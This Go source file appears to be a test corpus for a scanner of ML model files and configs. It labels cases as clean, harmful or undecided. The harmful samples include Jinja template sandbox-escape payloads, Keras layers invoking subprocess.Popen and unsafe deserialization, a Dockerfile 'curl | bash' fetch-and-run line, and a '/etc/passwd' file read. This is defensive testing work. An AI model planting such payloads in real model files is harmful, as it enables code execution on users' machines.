package corpus

import (
	"fmt"
	"strings"

	"assay/internal/scan"
)

// kerasLayer is a layer as Keras 3 writes it.
func kerasLayer(module, class, registered, config string) string {
	return fmt.Sprintf(`{"module":%q,"class_name":%q,"config":%s,"registered_name":%s}`, module, class, config, registered)
}

func kerasModel(layers ...string) string {
	return kerasLayer("keras", "Functional", "null", `{"name":"m","layers":[`+strings.Join(layers, ",")+`]}`)
}

// JSON gives configurations, and Keras's models in the form of JSON.
func JSON() []Case {
	dense := kerasLayer("keras.layers", "Dense", "null", `{"units":2,"activation":"relu","kernel_initializer":`+kerasLayer("keras.initializers", "GlorotUniform", "null", `{"seed":null}`)+`}`)
	var out []Case
	add := func(name string, want scan.Status, rule, text string) {
		out = append(out, Case{"json/" + name, []byte(text), want, rule, false})
	}
	for i, s := range []string{
		`{}`, `{"model_type":"llama","hidden_size":8,"architectures":["LlamaForCausalLM"]}`, `{"a":1}` + "\n" + `{"b":2}`, `{"trust_remote_code":false}`,
		`{"tokenizer_class":"LlamaTokenizer","chat_template":"{% for m in messages %}{{ m['content'] }}{% endfor %}"}`,
		`{"learner":{"gradient_booster":{"model":{"trees":[{"split_conditions":[0.5,1e-3]}]}},"objective":{"name":"reg:squarederror"}},"version":[2,0,3]}`,
		kerasModel(dense), `{"class_name":"Sequential","config":{"name":"s","layers":[{"class_name":"Dense","config":{"units":1}}]},"keras_version":"2.11.0","backend":"tensorflow"}`,
		kerasModel(dense, kerasLayer("builtins", "slice", "null", `{"start":0}`)), `{"keras_version":"3.3.3","date_saved":"2025-01-01@00:00:00"}`,
		`{"class_name":"Lambda"}`, `{"lambda":"x","module":"main"}`,
	} {
		add(fmt.Sprintf("harmless %d", i), scan.Clean, "", s)
	}
	for i, s := range []struct{ rule, text string }{
		{"config-code", `{"auto_map":{"AutoModel":"modeling.Model"}}`}, {"config-code", `{"a":[{"auto_map":{"AutoTokenizer":["tok.T",null]}}]}`}, {"config-code", `{"trust_remote_code":true}`},
		{"config-code", `{"a":1}{"trust_remote_code":true}`}, {"config-code", `{"\u0061uto_map":{"AutoConfig":"c.C"}}`}, {"config-code", `{"config":{"auto_map":{}}}`},
		{"config-template", `{"chat_template":"{{ ''.__class__.__mro__ }}"}`}, {"config-template", `{"chat_template":[{"name":"default","template":"{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"}]}`},
		{"config-secret", `{"token":"AKIA` + strings.Repeat("WXYZ", 4) + `"}`}, {"config-secret", `{"url":"https://user:secret1@example.org/x"}`},
		{"keras-lambda", kerasModel(kerasLayer("keras.layers", "Lambda", "null", `{"function":{"class_name":"__lambda__","config":{"value":"4wEAAAA="}}}`))},
		{"keras-lambda", `{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","config":{"function":["4wEAAAA=",null,null]}}]}}`},
		{"keras-lambda", `{"config":{"function":["4wEAAAA=",null,null]},"class_name":"Lambda"}`}, {"keras-lambda", `{"class_name":"keras>Lambda","config":{}}`}, {"keras-lambda", `{"class_name":"keras.layers.Lambda","config":{}}`}, {"keras-lambda", `{"class_name":"Mine>keras.src.layers.Lambda","config":{}}`}, {"keras-lambda", `{"class_name":"__lambda__","config":{"value":"x"}}`},
		{"keras-module", kerasModel(kerasLayer("os", "function", `"function"`, `"getcwd"`))}, {"keras-module", kerasModel(kerasLayer("keras.utils", "function", `"get_file"`, `"get_file"`))},
		{"keras-module", kerasModel(kerasLayer("keras.config", "function", `"enable_unsafe_deserialization"`, `"enable_unsafe_deserialization"`))}, {"keras-module", kerasModel(kerasLayer("builtins", "print", "null", `{}`))},
		{"keras-module", kerasModel(kerasLayer("keras.layers_evil", "Dense", "null", `{}`))}, {"keras-module", kerasModel(kerasLayer("subprocess", "Popen", "null", `{}`))},
		{"keras-file", kerasModel(kerasLayer("keras.layers", "StringLookup", "null", `{"vocabulary":"/etc/passwd"}`))}, {"keras-file", kerasModel(kerasLayer("keras.layers", "TextVectorization", "null", `{"vocabulary":"https://example.org/x"}`))},
	} {
		add(fmt.Sprintf("harmful %d", i), scan.Found, s.rule, s.text)
	}
	for i, s := range []struct{ rule, text string }{
		{"keras-custom", kerasModel(kerasLayer("keras.layers", "Mine", `"my_package>Mine"`, `{}`))}, {"keras-custom", kerasModel(kerasLayer("builtins", "function", `"function"`, `"mine"`))},
		{"json-unread", `{"a":`}, {"json-unread", `{"a":1} and more`}, {"json-limit", `{"a":` + strings.Repeat("[", 20_000)}, {"json-limit", `{"config":{"x":NaN},"class_name":"Lambda"}`}, {"json-limit", `{"x":-Infinity,"auto_map":{}}`}, {"config-template", `{"chat_template":"{% include 'x' %}"}`},
	} {
		add(fmt.Sprintf("undecided %d", i), scan.Undecided, s.rule, s.text)
	}
	return out
}

// Code gives Python code and Dockerfiles.
func Code() []Case {
	const handler = "from typing import Any\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        pass\n"
	var out []Case
	for i, s := range []string{
		"import numpy as np\n\ndef f(x):\n    return np.abs(x)\n", "# a comment\n\"\"\"Words.\"\"\"\nfrom a import b\nprint(b)\n", "class A:\n    pass\n",
		"FROM debian:12\nCOPY model.onnx /model.onnx\n", "# image\nARG V=12\nFROM debian:${V}\nRUN apt-get update\n",
	} {
		out = append(out, Case{fmt.Sprintf("code/harmless %d", i), []byte(s), scan.Clean, "", false})
	}
	for i, s := range []struct{ rule, text string }{
		{"code-handler", handler}, {"code-handler", "import torch\ndef handle(data, context):\n    return data\n"}, {"code-handler", "from ts.torch_handler.base_handler import BaseHandler\nclass H(BaseHandler):\n    pass\n"},
		{"code-custom", "from transformers import PreTrainedTokenizer\n\nclass T(PreTrainedTokenizer):\n    pass\n"}, {"code-custom", "import transformers\nclass M(transformers.PreTrainedModel):\n    pass\n"},
		{"python-secret", "import os\nkey = 'AKIA" + strings.Repeat("WXYZ", 4) + "'\n"},
		{"docker-entry", "FROM debian:12\nENTRYPOINT [\"/run.sh\"]\n"}, {"docker-entry", "FROM debian:12\nCMD python serve.py\n"}, {"docker-fetch", "FROM debian:12\nRUN curl -s https://example.org/x | bash\n"},
		{"docker-fetch", "FROM debian:12\nADD https://example.org/x /x\n"},
	} {
		out = append(out, Case{fmt.Sprintf("code/harmful %d", i), []byte(s.text), scan.Found, s.rule, false})
	}
	return append(out, Case{"code/no text", []byte("import os\n\x00\x01"), scan.Undecided, "python-unread", false})
}
